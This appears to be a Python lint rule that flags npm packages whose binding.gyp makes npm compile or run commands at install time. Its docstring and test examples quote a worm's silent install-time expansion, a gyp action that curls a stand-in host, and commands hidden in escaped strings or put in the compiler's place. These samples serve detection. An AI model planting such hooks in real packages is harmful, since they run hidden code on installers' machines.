"""Installing the package compiles it, and compiling runs commands.

## Why it matters

A `binding.gyp` at the root is enough for npm to run `node-gyp rebuild` when the package is installed; there need not
be a script in package.json. Its command expansions `<!(...)` run while it is read. The worm of June 2026 had no install
script at all: `"sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]` was the whole hook.

A package that holds native sources and asks `node-addon-api`, `nan` or `pkg-config` for paths gets a warning, because
installing it does run a compiler. It is an error when there is nothing to compile, or when a command fetches something,
hides what it runs, or runs one of the package's own scripts and throws away its output. With an `install` or
`preinstall` script npm compiles only if that script says so; then only the errors are reported here, and the script by
install-script.

## How to fix

Remove `binding.gyp` if nothing is compiled, or set `"gypfile": false`. Ship prebuilt binaries to spare your users the
compiler. If the build is meant, pin the file's content with an ignore.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

from pkglint.detect.code import gyp
from pkglint.metadata.npm import Manifest
from pkglint.metadata.packages import Packages, is_manifest, root_of
from pkglint.model import Entry, Example, Finding, Fix, FixAction, Kind, Level, Pin, Rule, Scope, level

_NATIVE = (
    ".c", ".cc", ".cpp", ".cxx", ".c++", ".m", ".mm", ".h", ".hh", ".hpp", ".rs", ".s", ".asm", ".f", ".f90", ".cu",
    ".go", ".zig", ".swift", ".d", ".pas", ".nim", ".o", ".a", ".lib",
)  # fmt: skip
_COMPILES = ("gyp", "prebuild", "cmake", "napi")


@dataclass()
class _Seen(Packages):
    """The build files as well: by path, the lines of commands with something wrong, and what it is."""

    files: dict[str, list[tuple[int, str]]] = field(default_factory=dict)


def _wants(entry: Entry) -> bool:
    return entry.is_file and (entry.suffix in (".gyp", ".gypi") or is_manifest(entry))


def _visit(entry: Entry, scope: Scope) -> Iterator[Finding]:
    seen: _Seen = scope.state
    if entry.name == "package.json":
        seen.see(entry)
        return iter(())
    seen.files[entry.path] = list(gyp.wrong(entry.content.data))
    return iter(())


def _finish(scope: Scope) -> Iterator[Finding]:
    seen: _Seen = scope.state
    for root, manifest in seen.installed():
        if f"{root}binding.gyp" in seen.files:
            yield from _judge(scope, root, manifest, {p: f for p, f in seen.files.items() if root_of(p) == root})


def _judge(scope: Scope, root: str, manifest: Manifest, files: dict[str, list[tuple[int, str]]]) -> Iterator[Finding]:
    scripts = manifest.table("scripts")
    own = [str(scripts[hook]) for hook in ("preinstall", "install") if scripts.get(hook)]
    implicit = not own and manifest.data.get("gypfile") is not False
    if not implicit and not any(word in script for script in own for word in _COMPILES):
        return
    wrong = [(path, *commands[0]) for path, commands in sorted(files.items()) if commands]
    for path, line, what in wrong:
        text = f"makes npm run a command that {what} when the package is installed"
        yield _found(scope, path, text, line, Level.ERROR)
    path = f"{root}binding.gyp"
    if wrong:
        return
    if not any(row.path.lower().endswith(_NATIVE) and row.path.startswith(root) for row in scope.rows):
        text = "makes npm run node-gyp on install, and there is nothing to compile"
        yield _found(scope, path, text, None, Level.ERROR)
    elif implicit:
        yield _found(scope, path, "makes npm compile the package when it is installed", None, None)


def _found(scope: Scope, path: str, text: str, line: int | None, grade: Level | None) -> Finding:
    fix = Fix(FixAction.PIN, (path,), 'Remove it if nothing is compiled, or set "gypfile": false.')
    row = next((row for row in reversed(scope.rows) if row.path == path), None)
    return scope.found(row or path, text, line=line, fix=fix, grade=grade)


_NAPI = '"include_dirs": ["<!@(node -p \\"require(\'node-addon-api\').include\\")"]'
_TARGET = '{{"targets": [{{"target_name": "demo", {0}, "sources": ["src/demo.cc"]}}]}}\n'

RULE = Rule(
    id="binding-gyp",
    summary="Installing the package compiles it, and compiling runs commands",
    levels=level(Level.WARNING),
    grades="error when there is nothing to compile, or a command fetches, hides or silences what it runs",
    kinds=(Kind.NPM,),
    state=_Seen,
    wants=_wants,
    visit=_visit,
    finish=_finish,
    examples=(
        Example("a native package", {"binding.gyp": _TARGET.format(_NAPI), "src/demo.cc": "int x;\n"}, 1),
        Example(
            "nothing to compile",
            {"binding.gyp": '{"targets": [{"target_name": "x", "type": "none"}]}\n', "index.js": "go();\n"},
            1,
        ),
        Example(
            "the worm's expansion",
            {
                "binding.gyp": '{"targets": [{"target_name": "x", "sources": '
                '["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]}]}\n',
                "stub.c": "int x;\n",
                "index.js": "go();\n",
            },
            1,
        ),
        Example(
            "an action that fetches",
            {
                "binding.gyp": '{"targets": [{"target_name": "x", "actions": [{"action_name": "a", '
                '"action": ["curl", "-s", "example.invalid/x"]}], "sources": ["x.c"]}]}\n',
                "x.c": "int x;\n",
            },
            1,
        ),
        Example(
            "a command in an escaped string and a variable",
            {
                "binding.gyp": '{"variables": {"c": "node lib/a.js"}, "targets": [{"target_name": "x", '
                '"sources": ["x.c", "\\x3c" "!(<(c) ; echo y.c)"]}]}\n',
                "x.c": "int x;\n",
            },
            1,
        ),
        Example(
            "a script in the compiler's place",
            {
                "binding.gyp": '{"make_global_settings": [["CXX", "node lib/a.js"]], '
                '"targets": [{"target_name": "x", "sources": ["x.c"]}]}\n',
                "x.c": "int x;\n",
            },
            1,
        ),
        Example(
            "an install script that uses prebuilt binaries",
            {
                "package.json": '{"name": "demo", "version": "1.0.0", "license": "MIT", '
                '"scripts": {"install": "node-gyp-build"}}\n',
                "binding.gyp": _TARGET.format(_NAPI),
                "src/demo.cc": "int x;\n",
            },
        ),
        Example(
            "node-gyp is switched off",
            {
                "package.json": '{"name": "demo", "version": "1.0.0", "license": "MIT", "gypfile": false}\n',
                "binding.gyp": "{}\n",
            },
        ),
        Example("a build file deeper in the package", {"deps/sqlite3.gyp": "{}\n", "src/binding.gyp": "{}\n"}),
    ),
    pin=Pin.DRAFT,
)
